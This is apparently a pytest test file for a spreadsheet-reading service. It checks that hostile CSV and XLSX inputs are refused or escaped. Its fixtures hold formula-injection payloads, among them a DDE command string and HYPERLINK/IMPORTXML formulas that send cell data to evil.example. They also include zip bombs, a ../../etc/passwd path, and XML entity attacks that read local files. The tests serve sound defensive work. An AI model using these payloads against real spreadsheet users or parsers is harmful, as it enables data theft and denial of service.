"""Hostile spreadsheets: each is read as what it is or refused by name; none holds the service up, and none runs anything."""

import io
import struct
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kit.apart import AT_ONCE
from kit.errors import Unavailable
from kit.sheets import LIMITS, Kind, Refusal, SheetRefused, explained, odd_look, read_sheet, to_csv, workbooks
from kit.sheets import opening as opening_module
from tests.unit.kit.sheets import workbooks as make

FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", '"=1+1', '",=1+1,"', ";=1+1", "Wren;=1+1", "Wren\n=1+1", "＝1+1", "＠SUM(1)",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "%0A-3+3+cmd|' /C calc'!D2\n-3", "\u200b=1+1", "\ufeff=1+1", "\x00=1+1", "'\t=1",
]  # fmt: skip
NAME = make.row(1, make.text_cell("A1", "name"))
LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9))
    + "]>"
)


def refusal(data, **more):
    with pytest.raises(SheetRefused) as caught:
        read_sheet(data, limits=LIMITS, **more)
    assert explained(caught.value, field="sheet").detail
    return caught.value.refusal


def lying(data, name, size):
    """The workbook with a directory that says another size of one of its parts."""
    changed = bytearray(data)
    for signature, at_size, at_name in ((b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)):
        at = -1
        while (at := data.find(signature, at + 1)) >= 0:
            if data[at + at_name :].startswith(name.encode()):
                changed[at + at_size : at + at_size + 4] = struct.pack("<I", size)
    return bytes(changed)


def locked(data):
    """The workbook with the mark of encryption on each of its parts."""
    changed = bytearray(data)
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        changed[at + 8] |= 1
    return bytes(changed)


@pytest.mark.parametrize("text", FORMULAS)
def test_O1_no_program_finds_a_formula_in_what_leaves(text):
    data = to_csv(["name", "note"], [["Wren", text], [text, "x"]]).decode("utf-8-sig")
    for separator in ",;\t":
        for line in data.splitlines():
            for value in line.split(separator):
                for begun in (value, value.lstrip('"'), value.strip('" \u00a0')):
                    assert not begun.startswith(("=", "+", "-", "@", "＝", "＠", "\t", "\r")), (separator, value)
    assert not set(data) & set("\t\x00\u200b\ufeff")


@pytest.mark.parametrize("text", FORMULAS)
def test_O1_a_formula_that_arrives_is_never_a_value(text):
    quoted = text.replace('"', '""').replace("\x00", "")
    cell = read_sheet(f'name,note\nWren,"{quoted}"\n'.encode(), limits=LIMITS).rows[0].at(1)
    assert cell.kind is Kind.FORMULA or not cell.text.startswith(("=", "＝"))


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"\xef\xbb\xbf\xef\xbb\xbf\x00", Refusal.NOT_A_TABLE),
        (b"name" + b",x" * 1_000_000, Refusal.COLUMNS),
        (b"name\n" + b"x\n" * 1_000_000, Refusal.ROWS),
        ((b"," * 199 + b"x\n") * 20_002, Refusal.ROWS),
        ((b"x," * 199 + b"x\n") * 3_000, Refusal.CELLS),
        (b'"' * 4_999_999, Refusal.QUOTES),
        (b"n\n" + b'"' + b"x\n" * 100_000, Refusal.QUOTES),
        (b"x" * 10_000_001, Refusal.TOO_LARGE),
        ("name\nZoë\n".encode() + "Zoë\n".encode("cp1252"), Refusal.MIXED),
        ("name\nWren\n".encode("utf-16-be"), Refusal.NOT_A_TABLE),
    ],
    ids=["nul", "columns", "rows", "wide rows", "cells", "quotes", "open quote", "bytes", "mixed", "utf-16"],
)
def test_O2_text_that_is_too_much_or_no_table_is_refused(data, expected):
    assert refusal(data) is expected


BOMBS = {
    "zip bomb": (lambda: make.raw(make.row(1, make.text_cell("A1", "x" * (70 << 20)))), Refusal.UNPACKED),
    "thousand to one": (lambda: make.raw(" " * (60 << 20)), Refusal.EMPTY),
    "many parts": (lambda: make.packed({**make.parts(), **{f"p{at}": "" for at in range(400)}}), Refusal.UNPACKED),
    "lies about its size": (lambda: lying(make.raw("<!--" + " " * 10_000 + "-->" + NAME), "xl/worksheets/sheet1.xml", 50), Refusal.DAMAGED),
    "zip in a zip": (lambda: make.packed({"sheet.xlsx": make.workbook(["name"])}), Refusal.NOT_A_TABLE),
    "climbs out": (lambda: make.packed({**make.parts(NAME), "../../etc/passwd": "x"}), Refusal.DAMAGED),
    "one name twice": (lambda: make.packed({**make.parts(NAME), "XL/workbook.xml": "x"}), Refusal.DAMAGED),
    "a million columns": (lambda: make.raw(f"<row r='1'>{'<c><v>1</v></c>' * 1_000_000}</row>"), None),
    "last column": (lambda: make.raw(make.row(1, '<c r="XFD1"><v>1</v></c>')), Refusal.COLUMNS),
    "beyond the last column": (lambda: make.raw(make.row(1, '<c r="ZZZZ1"><v>1</v></c>')), Refusal.DAMAGED),
    "a million rows": (lambda: make.raw("".join(f"<row r='{at}'><c><v>1</v></c></row>" for at in range(1, 1_000_001))), Refusal.ROWS),
    "a row that is not there": (lambda: make.raw(NAME + make.row(10**15, "<c><v>1</v></c>")), Refusal.DAMAGED),
    "rows backwards": (lambda: make.raw(make.row(2, make.text_cell("A2", "x")) + NAME), Refusal.DAMAGED),
    "a row twice": (lambda: make.raw(NAME + NAME), Refusal.DAMAGED),
    "cells backwards": (lambda: make.raw(make.row(1, make.text_cell("B1", "x"), make.text_cell("A1", "y"))), Refusal.DAMAGED),
    "one text a million times": (
        lambda: make.raw(
            ("<row>" + '<c t="s"><v>0</v></c>' * 100 + "</row>") * 2_000,
            strings=f"<sst xmlns='{make.MAIN}'><si><t>{'x' * 2000}</t></si></sst>",
        ),
        Refusal.CELLS,
    ),
    "macros": (lambda: make.packed({**make.parts(NAME), "xl/vbaProject.bin": "x"}), Refusal.MACRO),
    "macros by its type": (lambda: make.raw(NAME, kind=make.MACRO_TYPE), Refusal.MACRO),
    "password": (lambda: locked(make.workbook(["name"])), Refusal.LOCKED),
    "deep": (lambda: make.raw("<a>" * 1_000_000), None),
    "references out": (
        lambda: make.packed(
            {
                **make.parts(NAME),
                "xl/_rels/workbook.xml.rels": make.parts()["xl/_rels/workbook.xml.rels"].replace(
                    'Target="worksheets/sheet1.xml"', 'Target="http://127.0.0.1:9/x.xml" TargetMode="External"'
                ),
            }
        ),
        Refusal.EMPTY,
    ),
}  # fmt: skip


@pytest.mark.parametrize("bomb", BOMBS)
def test_O2_workbooks_that_are_bombs_are_named_and_cost_this_process_little(bomb):
    made, expected = BOMBS[bomb]
    data = made()
    tracemalloc.start()
    try:
        found = refusal(data)
        _now, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    given_up = (
        {Refusal.TOO_LONG} if expected else {Refusal.COLUMNS, Refusal.UNPACKED, Refusal.TOO_LONG, Refusal.DAMAGED}
    )
    assert found in {expected, *given_up}  # a busy machine gives a bomb up that another one looks through
    assert most < 3 * len(data) + 2_000_000


@pytest.mark.parametrize(
    "part",
    ["xl/sharedStrings.xml", "xl/workbook.xml", "xl/styles.xml", "xl/worksheets/sheet1.xml", "[Content_Types].xml"],
)
@pytest.mark.parametrize(
    "prologue",
    [
        LAUGHS,
        "<!DOCTYPE x [<!ENTITY i SYSTEM 'file:///etc/hostname'>]>",
        "<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://127.0.0.1:9/x'> %p;]>",
    ],
    ids=["laughs", "file", "parameter"],
)
def test_M8_entities_in_any_part_of_a_workbook_are_refused(part, prologue):
    files = make.parts(NAME)
    files[part] = prologue + files[part].replace("name<", "&i;<")
    assert refusal(make.packed(files)) is Refusal.ENTITIES


def poison(monkeypatch, tmp_path, code):
    """Let the process that opens workbooks do what `code` does before it answers."""
    script = tmp_path / "opening.py"
    source = Path(opening_module.__file__).read_text()
    line = "    request = json.loads(sys.stdin.buffer.readline())\n"
    assert line in source
    script.write_text(source.replace(line, f"{line}    {code}\n"))
    monkeypatch.setattr(workbooks.OPENING, "script", script)
    return make.workbook(["name"], ["Wren"])


@pytest.mark.parametrize("code", ["os.kill(os.getpid(), 11)", "os._exit(3)", "os.abort()", "x = bytearray(1 << 30)"])
def test_O2_a_workbook_that_brings_its_reader_down_brings_down_nobody_else(monkeypatch, tmp_path, code):
    assert refusal(poison(monkeypatch, tmp_path, code)) is Refusal.TOO_LONG


def test_O2_without_the_bound_it_would_get_what_it_asks_for(monkeypatch, tmp_path):
    data = poison(monkeypatch, tmp_path, "x = bytearray(1 << 30)")
    monkeypatch.setattr(workbooks.OPENING, "memory_bytes", 4 << 30)
    assert read_sheet(data, limits=LIMITS).rows


def test_O2_a_workbook_that_never_ends_is_given_up(monkeypatch, tmp_path):
    data = poison(monkeypatch, tmp_path, "import time; time.sleep(60)")
    monkeypatch.setattr(workbooks.OPENING, "seconds", 1.0)
    with pytest.raises(SheetRefused) as caught:
        workbooks.read_workbook(data, limits=LIMITS, tab=None)
    assert caught.value.refusal is Refusal.TOO_LONG


def test_O2_the_process_knows_nothing_of_ours(monkeypatch, tmp_path):
    monkeypatch.setenv("SATCHEL_ISSUER_KEY_FILE", "/secret")
    seen = (
        "sys.stdout.write(json.dumps({'tabs': [], 'tab': '', 'rows': [[1, False, [[0, 't', repr(dict(os.environ))], "
        "[1, 't', os.getcwd()], [2, 't', str('lxml' in sys.modules)]]]]})); sys.exit(0)"
    )
    header = read_sheet(poison(monkeypatch, tmp_path, seen), limits=LIMITS).headers
    assert "SATCHEL" not in header[0]
    assert header[1:] == ["/", "False"]


def test_O2_only_so_many_workbooks_are_opened_at_a_time(monkeypatch):
    monkeypatch.setattr(workbooks.OPENING, "patience", 0.01)
    places = [workbooks.OPENING._places.acquire(blocking=False) for _ in range(AT_ONCE)]
    try:
        assert all(places)
        with pytest.raises(Unavailable):
            read_sheet(make.workbook(["name"]), limits=LIMITS)
    finally:
        for _ in places:
            workbooks.OPENING._places.release()
    assert read_sheet(make.workbook(["name"]), limits=LIMITS).headers == ["name"]


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_O2_a_damaged_workbook_is_refused_or_read_and_nothing_else(data):
    honest = bytearray(make.workbook(["name", "mark"], ["Wren", "A"]))
    for _ in range(data.draw(st.integers(1, 8))):
        honest[data.draw(st.integers(4, len(honest) - 1))] = data.draw(st.integers(0, 255))
    try:
        assert read_sheet(bytes(honest), limits=LIMITS).header.cells
    except SheetRefused as error:
        assert explained(error, field="sheet").detail  # noqa: PT017 - either way is an answer


@pytest.mark.parametrize("sign", ["\x01", "\x08", "\x0b", "\x1b[31m", "\x7f", "\x85", "\x9b"])
def test_N6_control_characters_are_refused_with_their_place(sign):
    with pytest.raises(SheetRefused) as caught:
        read_sheet(f"name,note\nWren,a{sign}b\n".encode(), limits=LIMITS)
    assert (caught.value.refusal, caught.value.place) == (Refusal.CONTROL, "B2")
    if sign > "\x7f":
        data = make.raw(NAME + make.row(2, make.text_cell("A2", f"a{sign}b")))
        assert refusal(data) is Refusal.CONTROL


@pytest.mark.parametrize(
    "data", [b"name\n\xff\xff\xfe", b"name\nW\xc3\x28", b"name\n\xed\xa0\x80", b"name\n\xf8\x88\x80\x80\x80"]
)
def test_N7_what_is_no_utf_8_is_guessed_and_asked_or_refused(data):
    assert refusal(data, encoding="utf-8") is Refusal.ENCODING
    assert not read_sheet(data, limits=LIMITS).sure


def test_N8_two_ways_to_write_a_name_are_one():
    data = make.raw(NAME + make.row(2, make.text_cell("A2", "Zoe\u0308")))
    text = "name\nZoe\u0308\n".encode()
    assert {read_sheet(each, limits=LIMITS).rows[0].at(0).text for each in (data, text)} == {"Zo\xeb"}


def test_N13_long_digits_stay_the_text_that_they_are():
    for text in ("00123", "0" * 40, "9" * 400, "1e5", "1E400", "٣"):
        assert read_sheet(f"number\n{text}\n".encode(), limits=LIMITS).rows[0].at(0) == (text, Kind.TEXT)
        data = make.raw(NAME + make.row(2, make.text_cell("A2", text)))
        assert read_sheet(data, limits=LIMITS).rows[0].at(0) == (text, Kind.TEXT)


@pytest.mark.parametrize(
    "name",
    [
        "Wr\u202een",
        "Wr\u2066en",
        "Wr\u200ben",
        "W" + "\u0336" * 200 + "ren",
        "Wr\u0435n",
        "Ｗｒｅｎ",
        "Wren\u00ad",
        "\U000e0057ren",
    ],
)
def test_M10_a_name_that_is_not_what_it_seems_is_noticed(name):
    cell = read_sheet(f"name\n{name}\n".encode(), limits=LIMITS).rows[0].at(0)
    found = odd_look(cell.text)
    assert found is not None
    assert all(sign.isprintable() for sign in found[1])
    assert len(found[1]) <= 40


def test_M10_a_name_of_ten_megabytes_is_refused_with_its_place():
    with pytest.raises(SheetRefused) as caught:
        read_sheet(b"name\n" + b"x" * 100_000, limits=LIMITS)
    assert (caught.value.refusal, caught.value.place, caught.value.most) == (Refusal.LONG_CELL, "A2", 2000)


@pytest.mark.parametrize("canary", ["Wren Hadley", "teresa@hadley.example.org"])
def test_P2_a_refusal_says_where_and_never_what(canary):
    for data in (
        f"name,note\n{canary},\x01\n",
        f'name,note\n{canary},"{canary}',
        f"name,note\n{canary},{canary * 200}\n",
        f"{canary}\n={canary}\n",
    ):
        with pytest.raises(SheetRefused) as caught:
            read_sheet(data.encode(), limits=LIMITS).need_values([0, 1])
        answer = explained(caught.value, field="sheet")
        assert canary not in f"{answer.detail} {answer.remedy} {caught.value!r} {caught.value.__dict__}"


def test_B2_a_package_with_a_directory_of_thousands_is_refused_before_the_library_sees_it():
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for at in range(20_000):
            archive.writestr(f"xl/worksheets/sheet{at}.xml", "")
    assert refusal(stream.getvalue()) is Refusal.UNPACKED
